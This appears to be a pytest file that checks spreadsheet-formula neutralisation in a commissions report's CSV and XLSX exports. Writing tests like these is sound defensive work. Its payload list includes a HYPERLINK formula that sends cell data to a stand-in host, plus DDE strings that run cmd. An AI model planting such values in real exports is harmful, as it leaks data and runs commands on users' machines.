"""Names that a spreadsheet would run as formulas reach the exports as plain text.

Stores, guides, regions and brands are named by HQ and integrations; the
report's CSV and XLSX carry those names to an HQ user's spreadsheet. Every
text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is written with a leading apostrophe (OWASP's rule); amounts, negative ones
included, stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from apps.core.exports import cell_neutralise
from tests.commissions.factories import CommissionEntryFactory
from tests.conftest import token_client
from tests.factories import BrandFactory, GuideFactory, RegionFactory, StoreFactory

pytestmark = pytest.mark.django_db

URL = "/api/v1/reports/commissions/"
HOSTILE = [
    '=HYPERLINK("http://x/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_ledger(db):
    """A store, guide, region and brand per hostile name, each with one entry."""
    for number, name in enumerate(HOSTILE):
        brand = BrandFactory(code=f"B{number}", name=name)
        store = StoreFactory(
            code=f"S{number}", name=name, region=RegionFactory(code=f"R{number}", name=name),
            brands=[brand],
        )  # fmt: skip
        guide = GuideFactory(employee_no=f"G{number}", name=name, store=store)
        CommissionEntryFactory(guide=guide, brand=brand)


def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("group_by", ["store", "guide", "region", "brand"])
def test_formula_like_names_are_plain_text_in_the_csv(hq_client, hostile_ledger, group_by):
    response = hq_client.get(URL, {"group_by": group_by, "export": "csv"})

    rows = _csv_rows(response)[1:-1]
    labels = sorted(row[1] for row in rows)
    assert labels == sorted("'" + name for name in HOSTILE)
    assert {row[6] for row in rows} == {"3.00"}


@pytest.mark.parametrize("group_by", ["store", "guide", "region", "brand"])
def test_formula_like_names_are_text_cells_in_the_xlsx(hq_client, hostile_ledger, group_by):
    response = hq_client.get(URL, {"group_by": group_by, "export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(min_row=2))[:-1]
    assert {row[1].data_type for row in rows} == {"s"}  # no formula cell ("f")
    # (XML reads a carriage return back as a line feed)
    expected = sorted("'" + name.replace("\r", "\n") for name in HOSTILE)
    assert sorted(row[1].value for row in rows) == expected
    assert {Decimal(str(row[6].value)) for row in rows} == {Decimal("3.00")}
    assert {row[6].data_type for row in rows} == {"n"}


def test_the_report_page_export_is_neutralised_too(client, hq_user, hostile_ledger):
    client.force_login(hq_user)

    response = client.get("/admin/commissions/report/", {"group_by": "store", "export": "csv"})

    assert all(not row[1].startswith(("=", "+", "-", "@")) for row in _csv_rows(response)[1:])


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("a=b", "a=b"),
        ("", ""),
        ("上海一店", "上海一店"),
        (Decimal("-1.00"), Decimal("-1.00")),
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_a_spreadsheet_would_run(value, written):
    assert cell_neutralise(value) == written


def test_a_region_manager_export_is_neutralised(org):
    # Given a store in the manager's region named like a formula
    store = org.stores["SH01"]
    store.name = "=1+1"
    store.save()
    CommissionEntryFactory(guide=org.guides["G-SH01"], brand=org.brands[0])

    response = token_client(org.users["region_east"]).get(
        URL, {"group_by": "store", "export": "csv"}
    )

    assert [row[1] for row in _csv_rows(response)[1:-1]] == ["'=1+1"]
